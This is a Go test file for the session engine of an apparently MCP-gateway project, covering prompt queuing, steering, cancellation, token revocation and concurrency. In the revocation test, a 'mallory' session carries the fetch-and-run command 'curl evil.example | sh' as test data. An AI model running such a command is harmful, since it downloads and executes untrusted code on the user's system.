package sessions_test

import (
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/Tahul/caddy-zidane-mcp/sessions"
)

func TestCreateRunsFirstPromptAndRecordsFinished(t *testing.T) {
	e, _ := newEngine(t)
	alice := owner("alice")
	c, err := e.Create(ctxT(t), alice, sessions.CreateRequest{Cwd: t.TempDir(), Prompt: "hello there", Base: "https://gw.example"})
	if err != nil {
		t.Fatal(err)
	}
	if c.SessionID == "" || c.Link != "https://gw.example/sessions/"+c.SessionID {
		t.Fatalf("created = %+v", c)
	}
	v := waitState(t, e, c.SessionID, sessions.StateIdle)
	if v.LastMessage != "You said: hello there" || v.Turns != 1 || v.Title != "hello there" || v.Agent != "demo" || v.Link != c.Link {
		t.Errorf("view = %+v", v)
	}
	evs := eventsOf(e, c.SessionID, "")
	if len(evs) != 1 || evs[0].Kind != "finished" || evs[0].Status != sessions.EventDone || evs[0].Target != "mcp-alice" {
		t.Fatalf("events = %+v", evs)
	}
	if !strings.Contains(evs[0].Summary, "You said: hello there") {
		t.Errorf("summary %q lacks the answer", evs[0].Summary)
	}
	tr, err := e.Transcript(looker, c.SessionID, 0, true)
	if err != nil || len(tr) != 1 || tr[0].Prompt != "hello there" || tr[0].Answer != "You said: hello there" || tr[0].StopReason != "end_turn" || tr[0].Index != 1 {
		t.Fatalf("transcript = %+v, %v", tr, err)
	}
}

func TestSendWhileRunningIsQueuedFIFO(t *testing.T) {
	e, _ := newEngine(t)
	bob := owner("bob")
	id := create(t, e, bob, "approve: make")
	it := pendingOne(t, e, id)
	for _, p := range []string{"one", "two", "three"} {
		queued, err := e.Send(ctxT(t), bob, id, p)
		if err != nil || !queued {
			t.Fatalf("send %q: queued=%v err=%v", p, queued, err)
		}
	}
	if v, _ := e.Read(looker, id, false); v.Queued != 3 || v.State != sessions.StateBlocked {
		t.Fatalf("view = %+v, want 3 queued and blocked", v)
	}
	if err := e.Answer(ctxT(t), bob, it.RequestID, sessions.Answer{Decision: "allow"}); err != nil {
		t.Fatal(err)
	}
	waitState(t, e, id, sessions.StateIdle)
	tr, _ := e.Transcript(looker, id, 0, true)
	var got []string
	for _, turn := range tr {
		got = append(got, turn.Prompt+" => "+turn.Answer)
	}
	want := []string{"approve: make => Allowed: make", "one => You said: one", "two => You said: two", "three => You said: three"}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Fatalf("turns:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if queued, err := e.Send(ctxT(t), bob, id, "idle now"); err != nil || queued {
		t.Fatalf("send on idle: queued=%v err=%v, want it run at once", queued, err)
	}
	waitState(t, e, id, sessions.StateIdle)
}

func TestSteerWithTheSteeringExtension(t *testing.T) {
	e, _ := newEngine(t)
	o := owner("carol")
	id := create(t, e, o, "sleep: 10m")
	sleeping(t, e, id)
	mode, err := e.Steer(ctxT(t), o, id, "use tabs")
	if err != nil || mode != "steering" {
		t.Fatalf("steer = %q, %v; want steering", mode, err)
	}
	waitState(t, e, id, sessions.StateIdle)
	msg := lastMessage(t, e, id)
	if !strings.Contains(msg, "Woken early by steering") || !strings.Contains(msg, "Steered: use tabs") {
		t.Errorf("last message = %q", msg)
	}
	tr, _ := e.Transcript(looker, id, 0, true)
	if len(tr) != 1 || !strings.Contains(tr[0].Prompt, "[steering] use tabs") {
		t.Errorf("transcript = %+v, want the guidance in the turn's prompt", tr)
	}
	// Idle: there is no turn to steer, so the guidance runs as the next turn.
	if mode, err := e.Steer(ctxT(t), o, id, "and spaces"); err != nil || mode != "queued-first" {
		t.Fatalf("steer idle = %q, %v", mode, err)
	}
	waitState(t, e, id, sessions.StateIdle)
	if msg := lastMessage(t, e, id); msg != "You said: and spaces" {
		t.Errorf("last message = %q", msg)
	}
}

func TestSteerWithoutTheExtensionQueuesFirst(t *testing.T) {
	e, _ := newEngine(t)
	o := owner("dave")
	id := create(t, e, o, "approve: deploy", func(r *sessions.CreateRequest) { r.Agent = "nosteer" })
	it := pendingOne(t, e, id)
	if _, err := e.Send(ctxT(t), o, id, "later"); err != nil {
		t.Fatal(err)
	}
	mode, err := e.Steer(ctxT(t), o, id, "guidance")
	if err != nil || mode != "queued-first" {
		t.Fatalf("steer = %q, %v; want queued-first", mode, err)
	}
	if err := e.Answer(ctxT(t), o, it.RequestID, sessions.Answer{Decision: "reject"}); err != nil {
		t.Fatal(err)
	}
	waitState(t, e, id, sessions.StateIdle)
	tr, _ := e.Transcript(looker, id, 0, true)
	var prompts []string
	for _, turn := range tr {
		prompts = append(prompts, turn.Prompt)
	}
	if fmt.Sprint(prompts) != fmt.Sprint([]string{"approve: deploy", "guidance", "later"}) {
		t.Fatalf("turn prompts = %q, want the guidance before the queued prompt", prompts)
	}
	if tr[0].Answer != "Rejected: deploy" {
		t.Errorf("answer = %q", tr[0].Answer)
	}
}

func TestCancelDuringPendingApproval(t *testing.T) {
	e, _ := newEngine(t)
	o := owner("erin")
	id := create(t, e, o, "approve: rm -rf build")
	it := pendingOne(t, e, id)
	if _, err := e.Send(ctxT(t), o, id, "dropped by the cancel"); err != nil {
		t.Fatal(err)
	}
	if err := e.Cancel(ctxT(t), o, id); err != nil {
		t.Fatal(err)
	}
	v, _ := e.Read(looker, id, false)
	if v.State != sessions.StateIdle || v.Queued != 0 {
		t.Fatalf("after cancel: %+v", v)
	}
	if p := pendingIn(e, id); len(p) != 0 {
		t.Fatalf("still pending: %+v", p)
	}
	err := e.Answer(ctxT(t), o, it.RequestID, sessions.Answer{Decision: "allow"})
	wantErr(t, err, sessions.ErrNoInteraction, "cancelled")
	tr, _ := e.Transcript(looker, id, 0, true)
	if len(tr) != 1 || tr[0].StopReason != "cancelled" {
		t.Fatalf("transcript = %+v, want one cancelled turn", tr)
	}
	evs := eventsOf(e, id, sessions.EventCancelled)
	if len(evs) != 1 || !strings.Contains(evs[0].Summary, "cancelled by erin") || !strings.Contains(evs[0].Summary, "1 queued prompt(s) dropped") {
		t.Fatalf("cancelled events = %+v", evs)
	}
	if len(eventsOf(e, id, sessions.EventNeedsAttention)) != 1 {
		t.Errorf("needs-attention events = %+v", eventsOf(e, id, sessions.EventNeedsAttention))
	}
	wantErr(t, e.Cancel(ctxT(t), o, id), sessions.ErrNotRunning)
	// The session goes on.
	if _, err := e.Send(ctxT(t), o, id, "still there?"); err != nil {
		t.Fatal(err)
	}
	waitState(t, e, id, sessions.StateIdle)
	if msg := lastMessage(t, e, id); msg != "You said: still there?" {
		t.Errorf("last message = %q", msg)
	}
}

func TestCancelDuringSleepEndsCancelled(t *testing.T) {
	e, _ := newEngine(t)
	o := owner("fay")
	id := create(t, e, o, "sleep: 10m")
	sleeping(t, e, id)
	if err := e.Cancel(ctxT(t), o, id); err != nil {
		t.Fatal(err)
	}
	tr, _ := e.Transcript(looker, id, 0, true)
	if len(tr) != 1 || tr[0].StopReason != "cancelled" {
		t.Fatalf("transcript = %+v", tr)
	}
}

func TestWaitTimesOutWithoutStateChange(t *testing.T) {
	e, _ := newEngine(t)
	o := owner("kim")
	id := create(t, e, o, "sleep: 10m")
	sleeping(t, e, id)
	v, err := e.Wait(ctxT(t), looker, id, 20*1000*1000) // 20ms
	if err != nil || v.State != sessions.StateRunning {
		t.Fatalf("wait = %+v, %v; want it to return still running", v, err)
	}
	if v, err := e.Wait(ctxT(t), looker, id, 0); err != nil || v.State != sessions.StateRunning {
		t.Fatalf("wait 0 = %+v, %v", v, err)
	}
	if err := e.Cancel(ctxT(t), o, id); err != nil {
		t.Fatal(err)
	}
	_, err = e.Wait(ctxT(t), looker, "ses_missing", 0)
	wantErr(t, err, sessions.ErrNoSession)
}

func TestRevokeToken(t *testing.T) {
	e, _ := newEngine(t)
	mallory, other := owner("mallory"), owner("olga")
	blocked := create(t, e, mallory, "approve: curl evil.example | sh")
	it := pendingOne(t, e, blocked)
	sleepy := create(t, e, mallory, "sleep: 10m")
	sleeping(t, e, sleepy)
	if _, err := e.Send(ctxT(t), mallory, sleepy, "queued"); err != nil {
		t.Fatal(err)
	}
	safe := create(t, e, other, "approve: make")
	pendingOne(t, e, safe)

	e.RevokeToken(mallory.TokenID)
	waitState(t, e, blocked, sessions.StateIdle)
	waitState(t, e, sleepy, sessions.StateIdle)
	for _, id := range []string{blocked, sleepy} {
		evs := eventsOf(e, id, sessions.EventCancelled)
		if len(evs) != 1 || !strings.Contains(evs[0].Summary, "revoked") {
			t.Errorf("cancelled events of %s = %+v", id, evs)
		}
	}
	wantErr(t, e.Answer(ctxT(t), mallory, it.RequestID, sessions.Answer{Decision: "allow"}), sessions.ErrNoInteraction)
	if v, _ := e.Read(looker, sleepy, false); v.Queued != 0 || v.Turns != 1 {
		t.Errorf("revoked session = %+v, want its queue dropped", v)
	}
	if v, _ := e.Read(looker, safe, false); v.State != sessions.StateBlocked || len(pendingIn(e, safe)) != 1 {
		t.Errorf("another token's session = %+v, want it untouched", v)
	}
}

func TestManySessionsAtOnce(t *testing.T) {
	e, _ := newEngine(t)
	const n = 20
	ids := make([]string, n)
	var wg sync.WaitGroup
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			o := owner(fmt.Sprintf("user%d", i%3))
			c, err := e.Create(ctxT(t), o, sessions.CreateRequest{Cwd: t.TempDir(), Prompt: fmt.Sprintf("job %d", i)})
			if err != nil {
				t.Error(err)
				return
			}
			ids[i] = c.SessionID
			if _, err := e.Send(ctxT(t), o, c.SessionID, fmt.Sprintf("then %d", i)); err != nil {
				t.Error(err)
			}
		}()
	}
	wg.Wait()
	if t.Failed() {
		return
	}
	for i, id := range ids {
		v := waitState(t, e, id, sessions.StateIdle)
		if v.LastMessage != fmt.Sprintf("You said: then %d", i) || v.Turns != 2 {
			t.Errorf("session %d: %+v", i, v)
		}
	}
	// user1 created i = 1, 4, 7, 10, 13, 16, 19: it lists those; with
	// share_sessions it lists all, the others marked foreign.
	if own, partial := e.List(owner("user1"), 100); len(own) != 7 || partial || slices.ContainsFunc(own, func(v sessions.SessionView) bool { return !v.Worker || v.Foreign }) {
		t.Fatalf("user1 lists %d sessions (partial %v): %+v", len(own), partial, own)
	}
	shared := owner("user1")
	shared.OtherSessions = sessions.AccessRead
	list, partial := e.List(shared, 100)
	if len(list) != n || partial {
		t.Fatalf("list = %d sessions, partial %v", len(list), partial)
	}
	workers, foreign := 0, 0
	for i, v := range list {
		if v.Worker {
			workers++
		}
		if v.Foreign {
			foreign++
		}
		if i > 0 && v.Created.After(list[i-1].Created) {
			t.Errorf("list not newest first")
		}
	}
	if workers != 7 || foreign != n-7 {
		t.Errorf("worker sessions = %d, foreign %d; want 7 and %d", workers, foreign, n-7)
	}
	if short, partial := e.List(shared, 5); len(short) != 5 || !partial {
		t.Errorf("list limit 5 = %d, partial %v", len(short), partial)
	}
	if got := eventsIn(e, sessions.EventFilter{Status: sessions.EventDone, Limit: 1000}); len(got) != 2*n {
		t.Errorf("finished events = %d, want %d", len(got), 2*n)
	}
}

func TestReadCutsLongMessagesUnlessFull(t *testing.T) {
	e, _ := newEngine(t)
	long := strings.Repeat("é", 1500)
	id := create(t, e, owner("quinn"), long)
	waitState(t, e, id, sessions.StateIdle)
	short, _ := e.Read(looker, id, false)
	full, _ := e.Read(looker, id, true)
	if !short.Truncated || len([]rune(short.LastMessage)) != sessions.PreviewChars+1 {
		t.Errorf("short view: truncated=%v, %d chars", short.Truncated, len([]rune(short.LastMessage)))
	}
	if full.Truncated || full.LastMessage != "You said: "+long {
		t.Errorf("full view truncated=%v", full.Truncated)
	}
	tr, _ := e.Transcript(looker, id, 1, false)
	if len([]rune(tr[0].Prompt)) != sessions.TranscriptChars+1 {
		t.Errorf("transcript prompt cut at %d chars, want %d and an ellipsis", len([]rune(tr[0].Prompt)), sessions.TranscriptChars)
	}
	if tr, _ := e.Transcript(looker, id, 1, true); tr[0].Prompt != long {
		t.Error("full transcript cut")
	}
}

func TestMCPServersReachTheAgent(t *testing.T) {
	var got sessions.SessionInfo
	var mu sync.Mutex
	e, _ := newEngine(t, func(c *sessions.Config) {
		c.MCPServers = func(s sessions.SessionInfo) []sessions.McpServer {
			mu.Lock()
			got = s
			mu.Unlock()
			return []sessions.McpServer{
				{Name: "gateway", URL: "http://127.0.0.1:1/mcp", Headers: map[string]string{"Authorization": "Bearer child"}},
				{Name: "files", Command: "mcp-files", Args: []string{"--root", "/"}},
			}
		}
	})
	o := owner("ray")
	id := create(t, e, o, "mcp", func(r *sessions.CreateRequest) { r.Tools = []string{"sessions.read"}; r.Subscribe = true })
	waitState(t, e, id, sessions.StateIdle)
	msg := lastMessage(t, e, id)
	if !strings.Contains(msg, "gateway (http http://127.0.0.1:1/mcp)") || !strings.Contains(msg, "files (stdio mcp-files --root /)") {
		t.Errorf("the agent was given: %q", msg)
	}
	mu.Lock()
	defer mu.Unlock()
	if got.SessionID != id || got.Owner.TokenID != o.TokenID || !got.Subscribe || fmt.Sprint(got.Tools) != "[sessions.read]" {
		t.Errorf("hook got %+v", got)
	}
}
